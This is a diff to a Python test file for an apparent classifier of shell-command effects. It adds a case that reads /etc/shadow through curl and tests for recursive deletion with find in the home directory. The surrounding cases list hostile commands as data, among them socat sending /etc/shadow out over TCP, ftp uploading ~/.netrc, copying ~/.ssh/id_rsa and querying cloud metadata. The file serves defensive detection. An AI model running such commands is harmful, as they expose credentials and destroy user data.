@@ -293,6 +293,7 @@ def test_ordinary_modes_open_nothing(line: str) -> None:
         case("socat FILE:/etc/shadow TCP:x:1", EXFILTRATE, "in:secret"),
         case("ftp -u x ~/.netrc", EXFILTRATE, "in:secret"),
         case("python3 -m http.server -d ~", EXFILTRATE, "in:home"),
+        case("curl file:///etc/shadow", DISCLOSE, "in:secret"),
         case("getent shadow", DISCLOSE, "in:secret", "in:system"),
         case("cp ~/.ssh/id_rsa /tmp/x", DISCLOSE, "in:secret"),
         case("curl http://169.254.169.254/latest/meta-data/", DISCLOSE, "metadata"),
@@ -490,6 +491,13 @@ def test_what_is_done_to_processes_and_services_is_told(
 def test_looking_changes_nothing(line: str) -> None:
     harmless = [e for e in effects(line) if e.kind is not DISCLOSE and "in:stream" not in e.traits]
     assert harmless == []
+
+
+def test_finding_some_files_spares_the_whole() -> None:
+    assert has(effects("find ~ -name .DS_Store -delete"), DELETE, "recursive", "narrowed", "in:inside-home")
+    assert not has(effects("find ~ -name .DS_Store -delete"), DELETE, "in:home")
+    for line in ("find ~ -name * -delete", "find ~ ! -name x -delete", "find ~ -type f -delete"):
+        assert has(effects(line), DELETE, "recursive", "in:home")
 
 
 def test_a_program_that_never_ends_is_told_only_where_nobody_stops_it() -> None:
